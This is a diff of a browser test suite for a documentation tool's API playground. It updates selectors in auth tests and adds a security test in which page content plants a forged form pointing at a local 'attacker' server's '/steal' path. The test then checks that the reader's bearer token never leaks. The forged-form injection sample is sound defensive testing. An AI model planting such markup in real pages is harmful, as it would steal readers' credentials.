@@ -92,19 +92,23 @@ after(async () => {
 });
 
 /** The page as a static document, the way the export writes pages (scripts as files, no inline script). */
-async function servePage(api: Record<string, unknown>): Promise<void> {
+async function servePage(api: Record<string, unknown>, content = 'Adds a comment.', csp = CSP): Promise<void> {
   const docs = { name: 'Acme', navigation: [{ group: 'API', pages: ['comment'] }], openapi: 'openapi.json', api };
-  const page = '---\ntitle: "Add a comment"\ndescription: "Add a comment to a note."\nopenapi: "POST /notes/{note_id}/comments"\n---\n\nAdds a comment.\n';
+  const page = `---\ntitle: "Add a comment"\ndescription: "Add a comment to a note."\nopenapi: "POST /notes/{note_id}/comments"\n---\n\n${content}\n`;
   const ws = new MemoryWorkspace({ 'docs.json': JSON.stringify(docs), 'openapi.json': JSON.stringify(SPEC), 'comment.mdx': page }, ROOT);
   const project = new Project(ws, [ROOT]);
   await project.scan();
   const out = await renderPreview(project, `${ROOT}/comment.mdx`, `${origin}/site/`);
   assert.ok(out);
+  serveRendered(out, csp);
+}
+
+function serveRendered(out: NonNullable<Awaited<ReturnType<typeof renderPreview>>>, csp: string): void {
   served = `<!DOCTYPE html>
 <html lang="en" data-theme="${out.theme}">
 <head>
 <meta charset="utf-8">
-<meta http-equiv="Content-Security-Policy" content="${CSP}">
+<meta http-equiv="Content-Security-Policy" content="${csp}">
 <link rel="stylesheet" href="/media/docwright.css">
 <style id="dw-site-css">${out.css}</style>
 <title>${out.page.title}</title>
@@ -120,7 +124,7 @@ async function servePage(api: Record<string, unknown>): Promise<void> {
 async function open(): Promise<{ page: Page; errors: string[] }> {
   const page = await browser.newPage();
   const errors: string[] = [];
-  page.on('pageerror', (e) => errors.push(e.message));
+  page.on('pageerror', (e) => errors.push(e.stack ?? e.message));
   page.on('console', (m) => {
     if (m.type() === 'error') errors.push(m.text());
   });
@@ -130,9 +134,9 @@ async function open(): Promise<{ page: Page; errors: string[] }> {
 
 async function sendAndWait(page: Page): Promise<{ status: string; output: string }> {
   seen.length = 0;
-  await page.click('[data-pg-send]');
-  await page.waitForSelector('[data-pg-response][data-pg-state="done"], [data-pg-response][data-pg-state="error"]');
-  return { status: (await page.textContent('[data-pg-status]')) ?? '', output: (await page.textContent('[data-pg-output]')) ?? '' };
+  await page.click('[data-dw-pg-send]');
+  await page.waitForSelector('[data-dw-pg-response][data-dw-pg-state="done"], [data-dw-pg-response][data-dw-pg-state="error"]');
+  return { status: (await page.textContent('[data-dw-pg-status]')) ?? '', output: (await page.textContent('[data-dw-pg-output]')) ?? '' };
 }
 
 async function storageIsEmpty(page: Page): Promise<void> {
@@ -144,12 +148,12 @@ test('basic auth: username (pre-filled with inputPrefix) and password become Aut
   await servePage({ baseUrl: [`${origin}/api`, `${origin}/sandbox`], auth: { method: 'basic', name: 'username:password', inputPrefix: 'acme_' }, playground: { mode: 'show' } });
   const { page, errors } = await open();
   try {
-    assert.equal(await page.inputValue('[data-pg-auth="username"]'), 'acme_', 'the username input starts with inputPrefix');
-    await page.fill('[data-pg-auth="username"]', 'acme_key_id');
-    await page.fill('[data-pg-auth="password"]', 'p4ss wörd');
-    await page.fill('[data-pg-param][data-name="note_id"]', 'note 1');
-    await page.selectOption('[data-pg-param][data-name="notify"]', 'true');
-    await page.fill('[data-pg-body]', '{ "text": "Ship it" }');
+    assert.equal(await page.inputValue('[data-dw-pg-field="auth:username"]'), 'acme_', 'the username input starts with inputPrefix');
+    await page.fill('[data-dw-pg-field="auth:username"]', 'acme_key_id');
+    await page.fill('[data-dw-pg-field="auth:password"]', 'p4ss wörd');
+    await page.fill('[data-dw-pg-field="param"][data-dw-pg-name="note_id"]', 'note 1');
+    await page.selectOption('[data-dw-pg-field="param"][data-dw-pg-name="notify"]', 'true');
+    await page.fill('[data-dw-pg-field="body"]', '{ "text": "Ship it" }');
     const shown = await sendAndWait(page);
     assert.equal(seen.length, 1, JSON.stringify(shown));
     const req = seen[0];
@@ -172,9 +176,9 @@ test('bearer auth and the base URL switcher: the second base URL is called with 
   await servePage({ baseUrl: [`${origin}/api`, `${origin}/sandbox`], auth: { method: 'bearer' } });
   const { page, errors } = await open();
   try {
-    assert.equal(await page.locator('select[data-pg-base] option').count(), 2);
-    await page.selectOption('[data-pg-base]', `${origin}/sandbox`);
-    await page.fill('[data-pg-auth="token"]', 'tok_live_123');
+    assert.equal(await page.locator('select[data-dw-pg-field="base"] option').count(), 2);
+    await page.selectOption('[data-dw-pg-field="base"]', `${origin}/sandbox`);
+    await page.fill('[data-dw-pg-field="auth:token"]', 'tok_live_123');
     const shown = await sendAndWait(page);
     assert.equal(seen.length, 1, JSON.stringify(shown));
     assert.equal(seen[0].url, '/sandbox/notes/note_8f2k/comments');
@@ -194,12 +198,12 @@ test('key auth in the query: the key goes in the parameter named by api.auth.nam
   await servePage({ baseUrl: `${origin}/api`, auth: { method: 'key', name: 'api_key', inputPrefix: 'ak_' } });
   const { page, errors } = await open();
   try {
-    await page.fill('[data-pg-param][data-name="note_id"]', '');
+    await page.fill('[data-dw-pg-field="param"][data-dw-pg-name="note_id"]', '');
     let shown = await sendAndWait(page);
     assert.equal(seen.length, 0, 'nothing is sent without the path parameter');
     assert.match(shown.output, /note_id/);
-    await page.fill('[data-pg-param][data-name="note_id"]', 'note_9');
-    await page.fill('[data-pg-auth="key"]', 'ak_secret');
+    await page.fill('[data-dw-pg-field="param"][data-dw-pg-name="note_id"]', 'note_9');
+    await page.fill('[data-dw-pg-field="auth:key"]', 'ak_secret');
     shown = await sendAndWait(page);
     assert.equal(seen.length, 1);
     assert.equal(seen[0].url, '/api/notes/note_9/comments?api_key=ak_secret');
@@ -218,7 +222,7 @@ test('simple and hide modes render no form, so there is nothing to send', async 
     await servePage({ baseUrl: `${origin}/api`, playground: { mode } });
     const { page, errors } = await open();
     try {
-      assert.equal(await page.locator('[data-playground]').count(), 0);
+      assert.equal(await page.locator('[data-dw-playground]').count(), 0);
       assert.equal(await page.locator('.dw-api-endpoint').count(), mode === 'simple' ? 1 : 0);
       assert.deepEqual(errors, []);
     } finally {
@@ -251,12 +255,12 @@ async function withExportedCopy(dir: string, setBaseUrls: (docs: { api: { baseUr
 async function createNoteWithBasicAuth(pagePath: string, prefix: string): Promise<void> {
   const page = await browser.newPage();
   const errors: string[] = [];
-  page.on('pageerror', (e) => errors.push(e.message));
+  page.on('pageerror', (e) => errors.push(e.stack ?? e.message));
   try {
     await page.goto(`${origin}/export/${pagePath}`);
-    assert.equal(await page.inputValue('[data-pg-auth="username"]'), prefix, 'the username field starts with the prefix docs.json sets, if any');
-    await page.fill('[data-pg-auth="username"]', 'acme_id');
-    await page.fill('[data-pg-auth="password"]', 'secret');
+    assert.equal(await page.inputValue('[data-dw-pg-field="auth:username"]'), prefix, 'the username field starts with the prefix docs.json sets, if any');
+    await page.fill('[data-dw-pg-field="auth:username"]', 'acme_id');
+    await page.fill('[data-dw-pg-field="auth:password"]', 'secret');
     const shown = await sendAndWait(page);
     assert.equal(seen.length, 1, JSON.stringify(shown));
     assert.equal(seen[0].method, 'POST');
@@ -277,4 +281,86 @@ test('the exported example site: the playground of a page generated from its Ope
 
 test('the exported classic example site: the playground of its API page sends the request with Basic auth and shows the response', async () => {
   await withExportedCopy(CLASSIC_SITE, (docs, urls) => (docs.api.baseUrl = urls), () => createNoteWithBasicAuth('api-reference/notes/create-note.html', 'acme_'));
+});
+
+/**
+ * A playground form written by page content: the attributes playground.js reads (the former
+ * `data-*` names and the renderer's reserved `data-dw-*` ones), a base URL of `attacker`, cookies
+ * asked for, a token field and a Send button.
+ */
+function forgedForm(attacker: string): string {
+  const form = [
+    'data-playground=""', 'data-method="POST"', 'data-path="/notes/{note_id}/comments"', 'data-auth="bearer"', 'data-credentials="include"',
+    `data-dw-playground='${JSON.stringify(['POST', '/notes/{note_id}/comments', [`${origin}/api`]])}'`, 'data-dw-pg-method="POST"', 'data-dw-pg-path="/notes/{note_id}/comments"',
+    'data-dw-pg-auth="bearer"', 'data-dw-pg-credentials="include"', `data-dw-pg-bases='${JSON.stringify([`${attacker}/steal`])}'`,
+  ].join(' ');
+  return [
+    `<div id="forged" ${form}>`,
+    `<span data-pg-base="" data-url="${attacker}/steal" data-dw-pg-field="base" data-dw-pg-url="${attacker}/steal">base</span>`,
+    '<input data-pg-auth="token" data-dw-pg-field="auth:token" />',
+    '<button id="forged-send" data-pg-send="" data-dw-pg-send="">Send</button>',
+    '</div>',
+  ].join('');
+}
+
+test('a playground form forged by page content or by an OpenAPI x-mint.content block never receives the token typed into the real form', async () => {
+  const attackerSeen: { method: string; url: string; authorization?: string }[] = [];
+  const attacker = await serve((req, res) => {
+    attackerSeen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization });
+    // Lets every cross-origin request through, so that only the page's scripts decide what is sent.
+    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': 'authorization, content-type', 'Access-Control-Allow-Methods': 'GET, POST' });
+    res.end('{}');
+  });
+  // As the preview allows: any local server may be called.
+  const csp = CSP.replace("connect-src 'self'", "connect-src 'self' http://127.0.0.1:*");
+  const forged = forgedForm(attacker.origin);
+  const api = { baseUrl: `${origin}/api`, auth: { method: 'bearer' }, playground: { mode: 'show' } };
+  const fromSpec = async () => {
+    // A page generated from the spec, its x-mint.content holding the forged form.
+    const spec = structuredClone(SPEC);
+    Object.assign(spec.paths['/notes/{note_id}/comments'].post, { 'x-mint': { content: forged } });
+    const docs = { name: 'Acme', api: { mdx: { server: `${origin}/api`, auth: { method: 'bearer' } } }, navigation: { groups: [{ group: 'API', openapi: 'openapi.json' }] } };
+    const ws = new MemoryWorkspace({ 'docs.json': JSON.stringify(docs), 'openapi.json': JSON.stringify(spec) }, ROOT);
+    const project = new Project(ws, [ROOT]);
+    await project.scan();
+    const out = await renderPreview(project, `${ROOT}/docs.json`, `${origin}/site/`, { pageId: 'api-reference/add-a-comment' });
+    assert.ok(out, 'the generated page renders');
+    serveRendered(out, csp);
+  };
+  const other = new Project(new MemoryWorkspace({ 'docs.json': JSON.stringify({ name: 'Acme', navigation: [{ group: 'G', pages: ['other'] }] }), 'other.mdx': `---\ntitle: Other\n---\n\n${forged}\n` }, ROOT), [ROOT]);
+  await other.scan();
+  const nextPage = (await renderPreview(other, `${ROOT}/other.mdx`, `${origin}/site/`))!.body;
+  try {
+    for (const [where, setUp] of [['page content', () => servePage(api, forged, csp)], ['x-mint.content', fromSpec]] as const) {
+      await setUp();
+      const { page, errors } = await open();
+      const outside: string[] = [];
+      page.on('request', (r) => void r.allHeaders().then((h) => {
+        if (h.authorization && !r.url().startsWith(`${origin}/api/`)) outside.push(`${r.method()} ${r.url()}`);
+      }));
+      try {
+        assert.equal(await page.locator('#forged').count(), 1, `${where}: the forged form is on the page`);
+        await page.fill('.dw-playground input[type="password"]', 'SECRET_TOKEN');
+        // The reader clicks around, on the forged button too, then sends with the real form.
+        await page.click('#forged-send');
+        await page.click('h1');
+        const shown = await sendAndWait(page);
+        assert.equal(seen.length, 1, `${where}: ${JSON.stringify(shown)}`);
+        assert.equal(seen[0].headers.authorization, 'Bearer SECRET_TOKEN', `${where}: the real form sends to the API`);
+        // The preview puts the next page into the same document: a page holding only the forged form.
+        await page.evaluate((html) => { document.getElementById('dw-app')!.innerHTML = html; }, nextPage);
+        await page.click('#forged-send');
+        await page.click('#forged-send');
+        // A request of the reader's own, after the clicks, proves the clicks' effects would have been seen by now.
+        await page.evaluate((url) => fetch(url).then((r) => r.text()), `${attacker.origin}/probe`);
+        assert.deepEqual(attackerSeen.filter((r) => r.url !== '/probe'), [], `${where}: the attacker's server received a request`);
+        assert.deepEqual(outside, [], `${where}: Authorization sent outside the API's base URL`);
+        assert.deepEqual(errors, []);
+      } finally {
+        await page.close();
+      }
+    }
+  } finally {
+    await attacker.close();
+  }
 });
